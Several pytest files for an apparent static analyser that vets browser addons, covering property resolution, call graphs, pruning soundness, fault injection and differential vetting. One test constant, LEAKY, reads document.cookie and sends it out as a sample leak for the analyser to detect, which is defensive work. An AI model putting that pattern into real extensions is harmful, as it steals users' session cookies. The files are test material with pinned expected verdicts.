from repro.preanalysis import environment_global_names, resolve_computed_sites

pytestmark = pytest.mark.preanalysis


def _resolution(source: str, trusted: bool = True):
    return resolve_computed_sites((parse(source),), trusted=trusted)


def _only_site_names(source: str) -> frozenset[str]:
    resolution = _resolution(source)
    assert resolution.resolved_sites == 1, resolution
    [names] = resolution.resolved.values()
    return names


class TestResolves:
    def test_literal_variable_key(self):
        names = _only_site_names(
            "var o = { alpha: 1 };\nvar k = 'alpha';\nvar v = o[k];"
        )
        # Hoisted reads can observe the pre-assignment undefined.
        assert names == frozenset({"alpha", "undefined"})

    def test_concatenated_key(self):
        names = _only_site_names(
            "var p = 'al';\nvar k = p + 'pha';\nvar v = o[k];"
        )
        assert "alpha" in names

    def test_conditional_key(self):
        names = _only_site_names(
            "var o = {};\nvar v = o[flag ? 'a' : 'b'];"
        )
        assert {"a", "b"} <= names

    def test_numeric_suffix_key(self):
        names = _only_site_names("var i = 1;\nvar v = o['q' + i];")
        assert "q1" in names

    def test_multiple_assignments_join(self):
        names = _only_site_names(
            "var k = 'a';\nk = 'b';\nvar v = o[k];"
        )
        assert {"a", "b"} <= names


class TestRefuses:
    def test_parameter_key_is_residual(self):
        resolution = _resolution(
            "var o = {};\nfunction pick(k) { return o[k]; }\npick('a');"
        )
        assert resolution.resolved_sites == 0
        assert resolution.residual_sites == 1

    def test_for_in_variable_is_residual(self):
        resolution = _resolution(
            "var o = { a: 1 };\nfor (var k in o) { var v = o[k]; }"
        )
        assert resolution.residual_sites == 1

    def test_environment_global_key_is_residual(self):
        # `name` is a window global: the environment can bind it to
        # values the constant lattice does not model.
        resolution = _resolution("var v = o[location];")
        assert resolution.residual_sites == 1

    def test_compound_assignment_blocks_the_name(self):
        resolution = _resolution(
            "var k = 'a';\nk += 'b';\nvar v = o[k];"
        )
        assert resolution.residual_sites == 1

    def test_untrusted_input_makes_every_site_residual(self):
        source = "var k = 'a';\nvar v = o[k];"
        assert _resolution(source).resolved_sites == 1
        untrusted = _resolution(source, trusted=False)
        assert untrusted.resolved_sites == 0
        assert untrusted.residual_sites == 1

    def test_call_result_key_is_residual(self):
        resolution = _resolution("var k = pick();\nvar v = o[k];")
        assert resolution.residual_sites == 1


class TestEnvironmentBlocklist:
    def test_enumerated_from_the_real_environments(self):
        names = environment_global_names()
        # The classic escape hatches must all be present: if any of
        # these ever left the blocklist, a key like `o[window]` would
        # resolve against an environment value we do not model.
        assert {
            "window", "document", "chrome", "browser", "location",
            "XMLHttpRequest", "setTimeout", "eval",
        } <= names

    def test_literal_sites_are_not_counted(self):
        # `o['a']` has a static name: neither resolved nor residual.
        resolution = _resolution("var v = o['a'];")
        assert resolution.resolved_sites == 0
        assert resolution.residual_sites == 0
