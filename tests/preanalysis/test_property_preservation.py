"""Hypothesis: the pre-analysis preserves signatures over the
verdict-carrying generator's whole blueprint space.

Every generated addon knows its expected signature, so each drawn case
checks three ways at once: preanalysis-on equals preanalysis-off equals
the expected text. Bundles ride through ``generate_addon`` (the
generator mixes singles and multi-file extensions), so the webext
parse/prune path is exercised by the same property.
"""

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.api import vet
from repro.corpusgen import expected_signature_text, generate_addon
from repro.corpusgen.generator import _draw_blueprint

pytestmark = pytest.mark.preanalysis

_SETTINGS = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@given(seed=st.integers(0, 10_000))
@_SETTINGS
def test_blueprint_signatures_survive_preanalysis(seed):
    rng = random.Random(f"preanalysis:{seed}")
    blueprint = _draw_blueprint(rng)
    source = blueprint.render()
    on = vet(source, preanalysis=True)
    off = vet(source, preanalysis=False)
    expected = expected_signature_text(blueprint.expected_entries())
    assert on.signature.render() == expected
    assert off.signature.render() == expected


@given(seed=st.integers(0, 5_000), index=st.integers(0, 7))
@_SETTINGS
def test_generated_addons_survive_preanalysis(seed, index):
    addon = generate_addon(seed, index)
    on = vet(addon.source, preanalysis=True)
    off = vet(addon.source, preanalysis=False)
    assert on.signature.render() == addon.expected_signature, addon.name
    assert off.signature.render() == addon.expected_signature, addon.name


@given(seed=st.integers(0, 5_000))
@_SETTINGS
def test_prefilter_and_preanalysis_compose(seed):
    # The composed fast lane (prefilter fed by resolution) must still
    # land on the expected signature for every generated addon.
    addon = generate_addon(seed, 0)
    report = vet(addon.source, prefilter=True, preanalysis=True)
    assert report.signature.render() == addon.expected_signature, addon.name
