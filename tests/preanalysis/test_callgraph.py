"""The Andersen-style call graph and the CG lint rules on top of it."""

import pytest

from repro.js.parser import parse
from repro.lint import lint_source
from repro.preanalysis import build_callgraph

pytestmark = pytest.mark.preanalysis


def _graph(source: str):
    return build_callgraph((parse(source),))


def _rules_of(source: str) -> list[str]:
    return [finding.rule for finding in lint_source(source)]


class TestCalleeSets:
    def test_direct_call_resolves_to_the_declaration(self):
        graph = _graph("function f() { return 1; }\nvar x = f();")
        [site] = graph.sites
        assert site.callee_name == "f"
        assert len(site.callees) == 1
        assert graph.edges == 1

    def test_function_valued_variable(self):
        graph = _graph("var g = function () { return 2; };\nvar x = g();")
        [site] = graph.sites
        assert site.callee_name == "g"
        assert len(site.callees) == 1

    def test_property_call_collapses_on_the_name(self):
        graph = _graph(
            "var api = { run: function () {} };\n"
            "var alt = { run: function () {} };\n"
            "api.run();"
        )
        [site] = graph.sites
        assert site.callee_name == "run"
        # Andersen field-name collapse: both `run` bindings qualify.
        assert len(site.callees) == 2

    def test_unbound_name_has_empty_callee_set(self):
        graph = _graph("ghost();")
        [site] = graph.sites
        assert site.callee_name == "ghost"
        assert site.callees == frozenset()


class TestReachability:
    def test_transitive_reference_reaches(self):
        graph = _graph(
            "function inner() {}\n"
            "function outer() { inner(); }\n"
            "outer();"
        )
        assert graph.reachable == {0, 1}
        assert graph.unreachable_declarations() == []

    def test_unreferenced_declaration_is_unreachable(self):
        graph = _graph("function dead() {}\nvar x = 1;")
        [info] = graph.unreachable_declarations()
        assert info.name == "dead"

    def test_handler_registration_counts_as_a_reference(self):
        # An event-loop handler is only dispatchable after a
        # registration call mentions it: no CG001 false positive.
        graph = _graph(
            "function onTick() {}\n"
            "setTimeout(onTick, 100);"
        )
        assert graph.unreachable_declarations() == []


class TestLintRules:
    def test_cg001_fires_on_dead_function(self):
        assert "CG001" in _rules_of("function dead() {}\nvar x = 1;")

    def test_cg001_quiet_when_referenced(self):
        assert "CG001" not in _rules_of("function f() {}\nf();")

    def test_cg002_fires_on_unbound_callee(self):
        assert "CG002" in _rules_of("ghost();")

    def test_cg002_quiet_on_program_bound_callee(self):
        assert "CG002" not in _rules_of("var h = function () {};\nh();")

    def test_cg002_quiet_on_environment_and_builtins(self):
        assert "CG002" not in _rules_of("setTimeout(function () {}, 1);")
        assert "CG002" not in _rules_of("var d = new Date();")

    def test_cg002_quiet_on_member_calls(self):
        # Property callees resolve against the environment's objects,
        # which the name-binding table does not model: stay quiet.
        assert "CG002" not in _rules_of("chrome.tabs.query({});")
