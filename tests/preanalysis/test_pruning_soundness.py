"""Pre-analysis soundness, proven corpus-by-corpus.

The claim: for every addon — curated benchmark corpus, examples corpus
under recovery, WebExtension bundles, generated fleet corpus — vetting
with the pre-analysis (resolution + pruning) on produces bit-identical
rendered signatures to vetting with it off. Budget trips are the one
sanctioned divergence: pruning changes step counts, so the degraded
(⊤-widened) arm must *subsume* the exact one rather than equal it.
"""

from pathlib import Path

import pytest

from repro.addons import CORPUS
from repro.api import vet
from repro.faults import Budget
from repro.preanalysis import preanalyze, prune_programs
from repro.signatures import subsumes

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_FILES = sorted((REPO / "examples" / "addons").glob("*.js"))
EXTENSION_DIRS = sorted(
    child
    for child in (REPO / "examples" / "extensions").iterdir()
    if child.is_dir() and (child / "manifest.json").exists()
)

pytestmark = pytest.mark.preanalysis


def _identical(source: str, **kwargs) -> None:
    on = vet(source, preanalysis=True, **kwargs)
    off = vet(source, preanalysis=False, **kwargs)
    assert on.signature.render() == off.signature.render()
    assert on.degraded == off.degraded


class TestBitIdentity:
    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_curated_corpus(self, spec):
        _identical(spec.source())

    @pytest.mark.parametrize("path", EXAMPLE_FILES, ids=lambda p: p.name)
    def test_examples_under_recovery(self, path):
        _identical(path.read_text(encoding="utf-8"), recover=True)

    @pytest.mark.parametrize("root", EXTENSION_DIRS, ids=lambda p: p.name)
    def test_webext_bundles(self, root):
        from repro.webext.loader import load_source

        _identical(load_source(root))

    @pytest.mark.slow
    def test_generated_corpus(self):
        from repro.corpusgen import generate_corpus

        for addon in generate_corpus(20, seed=13):
            _identical(addon.source)


class TestBudgetTrips:
    """Pruning changes step counts, so a tiny budget can trip in one
    arm only; soundness there is subsumption, not equality."""

    def test_tiny_budget_arms_subsume(self):
        source = (REPO / "examples" / "addons" / "telemetry_beacon.js").read_text(
            encoding="utf-8"
        )
        exact = vet(source).signature
        for max_steps in (2, 5, 20, 100):
            on = vet(source, preanalysis=True, budget=Budget(max_steps=max_steps))
            off = vet(source, preanalysis=False, budget=Budget(max_steps=max_steps))
            for arm in (on, off):
                assert subsumes(arm.signature, exact), max_steps


class TestRefusals:
    def test_degraded_input_refuses(self):
        from repro.js.lexer import tokenize
        from repro.js.parser import Parser

        program, skipped = Parser(
            tokenize("var ok = 1;\nwith (o) { x = 1; }"), "<t>"
        ).parse_program_with_recovery()
        assert skipped
        pre = preanalyze((program,), degraded=True)
        assert not pre.prune.decision.pruned
        assert pre.prune.decision.reason == "degraded-input"

    def test_dynamic_code_refuses(self):
        from repro.js.parser import parse

        pre = preanalyze((parse("function dead() {}\neval('x');"),))
        assert pre.prune.decision.reason == "dynamic-code"
        assert pre.resolution.resolved_sites == 0  # untrusted

    def test_residual_dynamic_property_refuses(self):
        from repro.js.parser import parse

        pre = preanalyze(
            (parse("function dead() {}\nfunction p(k) { return o[k]; }\np('a');"),)
        )
        assert pre.prune.decision.reason == "dynamic-properties"
        assert pre.prune.pruned_nodes == 0

    def test_refused_prune_returns_the_same_objects(self):
        from repro.js.parser import parse

        program = parse("function dead() {}\neval('x');")
        result = prune_programs(
            (program,), degraded=False, dynamic_code=True,
            residual_dynamic_sites=0,
        )
        assert result.programs[0] is program


class TestPruningFires:
    def test_dead_function_is_removed(self):
        from repro.js.parser import parse

        program = parse("function dead() { return 1; }\nvar x = 2;")
        pre = preanalyze((program,))
        assert pre.prune.decision.pruned
        assert pre.prune.removed == ("dead",)
        assert pre.prune.pruned_nodes > 0
        # The original program object is untouched; the substitute lost
        # the declaration.
        assert len(program.body) == 2
        assert len(pre.programs[0].body) == 1

    def test_shortcut_palette_example_prunes_and_preserves(self):
        source = (
            REPO / "examples" / "addons" / "shortcut_palette.js"
        ).read_text(encoding="utf-8")
        report = vet(source, recover=True)
        assert report.counters["resolved_sites"] == 1
        assert report.counters["pruned_nodes"] > 0
        _identical(source, recover=True)

    def test_mention_in_dead_candidate_does_not_keep_it(self):
        from repro.js.parser import parse

        # a and b reference each other but nothing live references
        # either: the liveness fixpoint prunes the whole cycle.
        program = parse(
            "function a() { b(); }\nfunction b() { a(); }\nvar x = 1;"
        )
        pre = preanalyze((program,))
        assert pre.prune.removed == ("a", "b")

    def test_resolved_computed_mention_keeps_the_function(self):
        from repro.js.parser import parse

        # The only mention of `helper` is through a resolved computed
        # site: defense in depth says that mention is live.
        program = parse(
            "function helper() {}\n"
            "var table = { helper: helper };\n"
            "var k = 'helper';\n"
            "var v = table[k];"
        )
        pre = preanalyze((program,))
        assert pre.prune.decision.pruned
        assert "helper" not in pre.prune.removed
