"""The public API surface: every documented entry point exists and every
``__all__`` export resolves."""

import importlib

import pytest

PACKAGES = [
    "repro.js",
    "repro.ir",
    "repro.domains",
    "repro.analysis",
    "repro.pdg",
    "repro.signatures",
    "repro.browser",
    "repro.addons",
    "repro.evaluation",
]


class TestExports:
    @pytest.mark.parametrize("package", PACKAGES)
    def test_all_exports_resolve(self, package):
        module = importlib.import_module(package)
        for name in getattr(module, "__all__", []):
            assert hasattr(module, name), f"{package}.{name} missing"

    def test_readme_entry_points_exist(self):
        from repro.api import (
            analyze_addon,
            build_addon_pdg,
            infer_addon_signature,
            infer_signature,
            vet,
        )
        from repro.cli import main  # noqa: F401

        assert callable(vet) and callable(infer_signature)
        assert callable(analyze_addon) and callable(build_addon_pdg)
        assert callable(infer_addon_signature)

    def test_version(self):
        import repro

        assert repro.__version__

    def test_public_docstrings_present(self):
        # Every public module documents itself (deliverable e).
        for package in PACKAGES + ["repro.api", "repro.cli"]:
            module = importlib.import_module(package)
            assert module.__doc__ and module.__doc__.strip(), package
