"""Fault-injection suite for the fault-tolerant vetting pipeline.

The invariant under test: *no* pathological input or injected
infrastructure fault may surface as an exception from the batch engine.
Every case must yield a reported outcome — a typed failure
(:class:`repro.faults.FailureKind`) or a degraded-but-sound signature —
and injected faults must not perturb the results of healthy addons
(parallel/cached outcomes stay bit-identical to sequential ones).

Soundness of salvage mode is checked via the signature subsumption
order: a degraded run's ⊤-widened signature must subsume the signature
of an unbudgeted run on the same addon.
"""

from __future__ import annotations

import json
import multiprocessing
import os
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass

import pytest

import repro.api
from repro import batch
from repro.addons import CORPUS
from repro.analysis import AnalysisBudgetExceeded, analyze
from repro.api import vet
from repro.batch import VetTask, cache_key, summarize, vet_corpus, vet_many
from repro.faults import RetryPolicy
from repro.faults import Budget, Degradation, FailureKind, classify_exception
from repro.ir import lower
from repro.js import parse, parse_with_recovery
from repro.js.errors import ParseError, UnsupportedSyntaxError
from repro.signatures import subsumes

pytestmark = pytest.mark.faults

LEAKY = "var secret = document.cookie; send(secret);"


# ----------------------------------------------------------------------
# Cooperative budgets and salvage mode


class TestBudgetSalvage:
    def test_step_budget_degrades_not_raises(self):
        report = vet(LEAKY, budget=Budget(max_steps=3))
        assert report.degraded
        assert FailureKind.BUDGET_STEPS in {d.kind for d in report.degradations}

    def test_time_budget_degrades_not_raises(self):
        report = vet(LEAKY, budget=Budget(max_seconds=0.0))
        assert report.degraded
        assert FailureKind.BUDGET_TIME in {d.kind for d in report.degradations}

    def test_state_budget_degrades_not_raises(self):
        report = vet(LEAKY, budget=Budget(max_states=1))
        assert report.degraded
        assert FailureKind.BUDGET_STATES in {d.kind for d in report.degradations}

    @pytest.mark.parametrize("spec", CORPUS[:3], ids=lambda s: s.name)
    def test_degraded_signature_subsumes_unbudgeted(self, spec):
        full = vet(spec.source())
        assert not full.degraded
        degraded = vet(spec.source(), budget=Budget(max_steps=25))
        assert degraded.degraded
        assert subsumes(degraded.signature, full.signature)

    def test_salvage_off_still_raises_with_kind(self):
        program = lower(parse(LEAKY), event_loop=True)
        with pytest.raises(AnalysisBudgetExceeded) as raised:
            analyze(program, max_steps=2)
        assert raised.value.kind is FailureKind.BUDGET_STEPS

    def test_salvaged_result_is_all_weak_downstream(self):
        from repro.analysis import ReadWriteSets
        from repro.browser import BrowserEnvironment

        program = lower(parse(LEAKY), event_loop=True)
        result = analyze(
            program, BrowserEnvironment(), budget=Budget(max_steps=2),
            salvage=True,
        )
        assert result.degraded and result.unsettled
        sets = ReadWriteSets(result)
        for (sid, context) in list(result.states)[:20]:
            rw = sets.of(sid, context)
            assert all(not strong for strong in rw.write_vars.values())
            assert all(not access.strong for access in rw.write_props)


# ----------------------------------------------------------------------
# Frontend recovery


class TestFrontendRecovery:
    def test_skips_bad_statement_keeps_rest(self):
        source = "var a = 1;\nlet b = 2;\nvar c = 3;"
        program, skipped = parse_with_recovery(source)
        assert len(program.body) == 2
        assert len(skipped) == 1 and skipped[0].unsupported

    def test_skips_malformed_statement(self):
        source = "var a = 1;\nvar broken = ;;;\nsend(a);"
        program, skipped = parse_with_recovery(source)
        # Resynchronisation stops past the first ';'; the stragglers
        # parse as empty statements, which is fine — the two real
        # statements survive.
        real = [
            statement for statement in program.body
            if type(statement).__name__ != "EmptyStatement"
        ]
        assert len(real) == 2
        assert len(skipped) == 1 and not skipped[0].unsupported

    def test_resync_swallows_braced_garbage(self):
        source = "with (x) { if (y) { z = 1; } }\nvar after = 1;"
        program, skipped = parse_with_recovery(source)
        assert len(program.body) == 1
        assert len(skipped) == 1

    def test_recovered_vet_is_degraded_and_sound(self):
        broken = LEAKY + "\nclass Oops {}\n"
        report = vet(broken, recover=True)
        assert report.degraded
        kinds = {d.kind for d in report.degradations}
        assert kinds & {FailureKind.PARSE_ERROR, FailureKind.UNSUPPORTED_SYNTAX}
        clean = vet(LEAKY)
        assert subsumes(report.signature, clean.signature)

    def test_without_recovery_still_raises(self):
        with pytest.raises(ParseError):
            vet("var broken = ;;;(")


# ----------------------------------------------------------------------
# Typed failure taxonomy


class TestTypedFailures:
    def test_parse_error_is_typed(self):
        [outcome] = vet_many(["var broken = ;;;("], use_cache=False)
        assert not outcome.ok
        assert outcome.failure == "parse-error"
        assert "ParseError" in outcome.error

    def test_unsupported_syntax_is_typed(self):
        [outcome] = vet_many(["with (x) { y = 1; }"], use_cache=False)
        assert not outcome.ok
        assert outcome.failure == "unsupported-syntax"

    def test_internal_crash_is_typed(self, monkeypatch):
        def explode(*args, **kwargs):
            raise RuntimeError("injected pipeline crash")

        monkeypatch.setattr(repro.api, "vet", explode)
        [outcome] = vet_many([VetTask("crasher", LEAKY)], use_cache=False)
        assert not outcome.ok
        assert outcome.failure == "internal"
        assert "injected pipeline crash" in outcome.error

    def test_classifier_mapping(self):
        assert classify_exception(ParseError("x")) is FailureKind.PARSE_ERROR
        assert (
            classify_exception(UnsupportedSyntaxError("x"))
            is FailureKind.UNSUPPORTED_SYNTAX
        )
        assert (
            classify_exception(BrokenProcessPool("x"))
            is FailureKind.WORKER_CRASH
        )
        assert classify_exception(ValueError("x")) is FailureKind.INTERNAL
        exc = AnalysisBudgetExceeded("x", kind=FailureKind.BUDGET_TIME)
        assert classify_exception(exc) is FailureKind.BUDGET_TIME

    def test_degradation_json_roundtrip(self):
        degradation = Degradation(FailureKind.BUDGET_STEPS, "after 5 steps")
        assert Degradation.from_json(degradation.to_json()) == degradation


# ----------------------------------------------------------------------
# Worker crashes and broken pools


class _PoisonedFuture:
    def result(self, timeout=None):
        raise BrokenProcessPool("injected: a worker died abruptly")

    def cancel(self):
        return True


class _BrokenPoolExecutor:
    """A ProcessPoolExecutor double whose every future is poisoned."""

    def __init__(self, max_workers=None):
        pass

    def submit(self, fn, *args, **kwargs):
        return _PoisonedFuture()

    def shutdown(self, wait=True, cancel_futures=False):
        pass


class TestWorkerCrash:
    def test_broken_pool_retries_stranded_tasks_in_process(self, monkeypatch):
        monkeypatch.setattr(batch, "ProcessPoolExecutor", _BrokenPoolExecutor)
        policy = RetryPolicy(max_attempts=3, base_delay=0.001, jitter=0.0)
        baseline = vet_many([LEAKY, "var ok = 1;"], workers=1, use_cache=False)
        outcomes = vet_many(
            [LEAKY, "var ok = 1;"], workers=2, use_cache=False,
            pool_retry=policy,
        )
        assert [o.ok for o in outcomes] == [True, True]
        # An always-broken pool burns every allowed pool attempt, then
        # the task is salvaged in-process: retries == max_attempts.
        assert all(
            o.counters.get("pool_retries") == policy.max_attempts
            for o in outcomes
        )
        assert [o.signature_text for o in outcomes] == [
            o.signature_text for o in baseline
        ]
        breakdown = summarize(outcomes)
        assert breakdown["pool_retries"] == 2 * policy.max_attempts
        assert breakdown["pool_retry_attempts"] == {
            str(policy.max_attempts): 2
        }

    @pytest.mark.skipif(
        multiprocessing.get_start_method() != "fork",
        reason="worker-kill injection relies on fork inheriting the patch",
    )
    def test_real_worker_death_is_contained(self, monkeypatch):
        parent = os.getpid()
        original = repro.api.vet

        def lethal(source, *args, **kwargs):
            if "KILLWORKER" in source and os.getpid() != parent:
                os._exit(13)  # simulate an abrupt worker death
            return original(source, *args, **kwargs)

        monkeypatch.setattr(repro.api, "vet", lethal)
        outcomes = vet_many(
            ["var a = 1; // KILLWORKER", "var b = 2;"],
            workers=2, use_cache=False,
        )
        # Zero uncaught exceptions; both stranded tasks were re-run
        # in-process (where the kill switch does not fire).
        assert [o.ok for o in outcomes] == [True, True]
        assert any(o.counters.get("pool_retries") for o in outcomes)


# ----------------------------------------------------------------------
# Cache corruption


class TestCacheCorruption:
    def _entry_path(self, tmp_path, task):
        return tmp_path / f"{cache_key(task, None)}.json"

    @pytest.mark.parametrize(
        "garbage",
        ["{not json at all", '{"name": "x"', "\x00\x01\x02", '{"foo": 1}', "[]"],
        ids=["garbage", "truncated", "binary", "foreign-schema", "non-object"],
    )
    def test_corrupt_entry_quarantined_and_recomputed(self, tmp_path, garbage):
        task = VetTask("addon", LEAKY)
        path = self._entry_path(tmp_path, task)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(garbage, encoding="utf-8")

        [outcome] = vet_many([task], cache_dir=tmp_path)
        assert outcome.ok and not outcome.cached
        assert outcome.counters.get("cache_quarantined") == 1
        assert path.with_suffix(".corrupt").exists()
        assert summarize([outcome])["cache_quarantined"] == 1

        # The recomputed outcome was re-cached; the quarantined file
        # never masquerades as a hit or a miss again.
        [replay] = vet_many([task], cache_dir=tmp_path)
        assert replay.ok and replay.cached

    def test_corrupt_entry_matches_sequential_result(self, tmp_path):
        task = VetTask("addon", LEAKY)
        [baseline] = vet_many([task], use_cache=False)
        path = self._entry_path(tmp_path, task)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("][", encoding="utf-8")
        [outcome] = vet_many([task], cache_dir=tmp_path)
        assert outcome.signature_text == baseline.signature_text


# ----------------------------------------------------------------------
# The acceptance scenario: a hostile corpus end to end


@dataclass(frozen=True)
class _FakeSpec:
    """The duck-typed corpus-spec shape ``vet_corpus`` consumes."""

    name: str
    text: str
    manual_signature_text: str = ""
    real_extras_text: str = ""

    def source(self) -> str:
        return self.text


class TestHostileCorpus:
    def test_hostile_corpus_completes_with_typed_breakdown(self, monkeypatch):
        parent = os.getpid()
        original = repro.api.vet

        def unstable(source, *args, **kwargs):
            if "INTERNALCRASH" in source:
                raise RuntimeError("injected internal fault")
            return original(source, *args, **kwargs)

        monkeypatch.setattr(repro.api, "vet", unstable)
        corpus = [
            _FakeSpec("healthy", "var x = 1; send(x);"),
            _FakeSpec("budget-buster", CORPUS[0].source()),
            _FakeSpec("parse-failure", "var broken = ;;;("),
            _FakeSpec("crasher", "var y = 2; // INTERNALCRASH"),
        ]
        outcomes = vet_corpus(
            corpus, workers=1, use_cache=False, max_steps=40,
        )
        by_name = {outcome.name: outcome for outcome in outcomes}
        assert by_name["healthy"].ok
        assert by_name["budget-buster"].ok and by_name["budget-buster"].degraded
        assert "budget-steps" in by_name["budget-buster"].degradation_kinds
        assert by_name["parse-failure"].failure == "parse-error"
        assert by_name["crasher"].failure == "internal"

        breakdown = summarize(outcomes)
        assert breakdown["total"] == 4 and breakdown["failed"] == 2
        assert breakdown["failures"] == {"internal": 1, "parse-error": 1}
        assert breakdown["degradation_kinds"] == {"budget-steps": 1}
        json.dumps(breakdown)  # the breakdown is artifact-ready JSON

    def test_parallel_results_identical_under_injected_faults(self, tmp_path):
        tasks = [
            VetTask("good-1", LEAKY),
            VetTask("bad", "var broken = ;;;("),
            VetTask("good-2", "var ok = 1; send(ok);"),
            VetTask("buster", LEAKY, max_steps=3),
        ]
        sequential = vet_many(tasks, workers=1, use_cache=False)
        parallel = vet_many(tasks, workers=2, use_cache=False)
        primed = vet_many(tasks, workers=1, cache_dir=tmp_path)
        replay = vet_many(tasks, workers=1, cache_dir=tmp_path)
        for run in (parallel, primed, replay):
            assert [o.signature_text for o in run] == [
                o.signature_text for o in sequential
            ]
            assert [o.failure for o in run] == [o.failure for o in sequential]
            assert [o.degraded for o in run] == [o.degraded for o in sequential]
        # Failures and degraded outcomes are never served from cache;
        # the clean ones are.
        assert [o.cached for o in replay] == [True, False, True, False]
