"""The golden differential-vetting report over the versioned examples.

Each curated pair under ``examples/addons/versions`` exercises exactly
one classification path, and this file pins the full rendered outcome —
certificate decision, routing verdict, and every classified entry
change — byte for byte. A lattice-order regression (or an accidental
reclassification like widened -> removed+new) shows up as a diff here,
not as a silent routing change in a vetting queue.

Regenerate after intentional changes with:
``PYTHONPATH=src python -m tests.diffvet.test_golden_diffs``
"""

from pathlib import Path

import pytest

from repro.api import diff_vet
from repro.diffvet import discover_pairs

pytestmark = pytest.mark.diffvet

REPO = Path(__file__).resolve().parents[2]
VERSIONS = REPO / "examples" / "addons" / "versions"
GOLDEN = Path(__file__).with_name("golden_diffs.txt")

#: What each curated pair is *for* — checked structurally so the golden
#: file cannot drift into pinning the wrong scenario.
EXPECTED_SCENARIOS = {
    "big_dashboard": ("approve-fast", None),
    "clock_badge": ("re-review", "new-flow"),
    "search_rank": ("approve", "narrowed"),
    "sync_report": ("approve", "removed-flow"),
    "telemetry_beacon": ("re-review", "widened"),
    "ui_theme": ("approve-fast", None),
}


def _report_text() -> str:
    lines = []
    for pair in discover_pairs(VERSIONS):
        report = diff_vet(pair.old_source(), pair.new_source())
        lines.append(f"== {pair.name} ({pair.old_path.name} -> {pair.new_path.name})")
        lines.append(report.certificate.render())
        lines.append(f"verdict: {report.verdict}")
        for change in sorted(report.diff.changes, key=lambda c: c.render()):
            if change.kind != "unchanged":
                lines.append(f"  {change.render()}")
        lines.append("")
    return "\n".join(lines)


class TestCuratedPairs:
    def test_every_scenario_is_present(self):
        names = {pair.name for pair in discover_pairs(VERSIONS)}
        assert set(EXPECTED_SCENARIOS) <= names

    @pytest.mark.parametrize(
        "name", sorted(EXPECTED_SCENARIOS), ids=lambda n: n
    )
    def test_pair_exercises_its_scenario(self, name):
        [pair] = [p for p in discover_pairs(VERSIONS) if p.name == name]
        report = diff_vet(pair.old_source(), pair.new_source())
        verdict, kind = EXPECTED_SCENARIOS[name]
        assert report.verdict == verdict
        if kind is None:
            assert report.fast_lane
        else:
            assert not report.fast_lane
            assert report.diff.counts[kind] == 1

    def test_report_matches_golden(self):
        assert GOLDEN.exists(), (
            "golden file missing; regenerate with: PYTHONPATH=src python -m "
            "tests.diffvet.test_golden_diffs"
        )
        assert _report_text() == GOLDEN.read_text(encoding="utf-8")


if __name__ == "__main__":
    GOLDEN.write_text(_report_text(), encoding="utf-8")
    print(f"wrote {GOLDEN}")
