"""The change-surface certificate: every certification and refusal path.

The certificate follows the relevance prefilter's refusal discipline:
each condition its soundness argument needs is tested here in isolation
— a violated condition must refuse with its typed reason, and only the
provably-isolated shapes may certify. The end-to-end soundness claim
(certified implies bit-identical signatures) lives in
``test_incremental_soundness.py``.
"""

import pytest

from repro.browser import mozilla_spec
from repro.diffvet import certify_unchanged, change_surface
from repro.diffvet.incremental import (
    CERTIFIED_ISOLATED,
    CERTIFIED_NO_CHANGE,
    REFUSED_CALL,
    REFUSED_CONTROL_FLOW,
    REFUSED_DEGRADED,
    REFUSED_DYNAMIC_CODE,
    REFUSED_DYNAMIC_PROPERTIES,
    REFUSED_PARSE_ERROR,
    REFUSED_SHARED_NAMES,
    REFUSED_SPEC_OVERLAP,
)
from repro.js import parse

pytestmark = pytest.mark.diffvet

SPEC = mozilla_spec()

BASE = """
var palette = { light: "#fff", dark: "#000" };
function pick(name) {
  if (name == "dark") { return palette.dark; }
  return palette.light;
}
var chosen = pick("light");
"""


def certify(old, new, **kwargs):
    return certify_unchanged(old, new, SPEC, **kwargs)


class TestChangeSurface:
    def test_identical_sources_have_empty_surface(self):
        surface = change_surface(parse(BASE), parse(BASE))
        assert surface.is_empty

    def test_comment_and_formatting_churn_is_invisible(self):
        reformatted = (
            "// a new header comment\n"
            'var palette = { light: "#fff", dark: "#000" };\n'
            "function pick(name) {\n"
            '  if (name == "dark") {\n'
            "    return palette.dark;\n"
            "  }\n"
            "  return palette.light; // else\n"
            "}\n"
            'var chosen = pick("light");\n'
        )
        surface = change_surface(parse(BASE), parse(reformatted))
        assert surface.is_empty

    def test_inserted_statement_is_the_whole_surface(self):
        surface = change_surface(parse(BASE), parse(BASE + "\nvar extra = 1;"))
        assert not surface.removed
        assert len(surface.inserted) == 1
        assert len(surface.unchanged_old) == len(parse(BASE).body)


class TestCertified:
    def test_comment_only_update_certifies_no_change(self):
        certificate = certify(BASE, "// release notes tweak\n" + BASE)
        assert certificate.certified
        assert certificate.reason == CERTIFIED_NO_CHANGE
        assert certificate.changed_statements == 0

    def test_isolated_island_certifies(self):
        certificate = certify(BASE, BASE + '\nvar retired = { sepia: "#704214" };')
        assert certificate.certified
        assert certificate.reason == CERTIFIED_ISOLATED
        assert certificate.changed_statements == 1

    def test_certificate_carries_new_ast_size(self):
        certificate = certify(BASE, BASE)
        assert certificate.certified
        assert certificate.new_ast_nodes > 0


class TestRefusals:
    def test_unparseable_old_version_refuses(self):
        certificate = certify("var = ;", BASE)
        assert not certificate.certified
        assert certificate.reason == REFUSED_PARSE_ERROR

    def test_unparseable_new_version_refuses(self):
        certificate = certify(BASE, "function {")
        assert not certificate.certified
        assert certificate.reason == REFUSED_PARSE_ERROR

    def test_recovery_skips_refuse_as_degraded(self):
        legacy = BASE + "\nwith (palette) { var x = light; }"
        certificate = certify(legacy, legacy + "\nvar island = 1;", recover=True)
        assert not certificate.certified
        assert certificate.reason == REFUSED_DEGRADED

    def test_dynamic_code_anywhere_refuses(self):
        # The eval sits in the *unchanged* half: still a refusal,
        # because dynamic code can reach the change without naming it.
        old = BASE + "\neval('x');"
        certificate = certify(old, old + "\nvar island = 1;")
        assert not certificate.certified
        assert certificate.reason == REFUSED_DYNAMIC_CODE

    def test_dynamic_property_access_refuses(self):
        probe = 'var o = { a: 1 };\nvar k = "a";\nvar v = o[k];'
        certificate = certify(probe, probe + "\nvar island = 1;")
        assert not certificate.certified
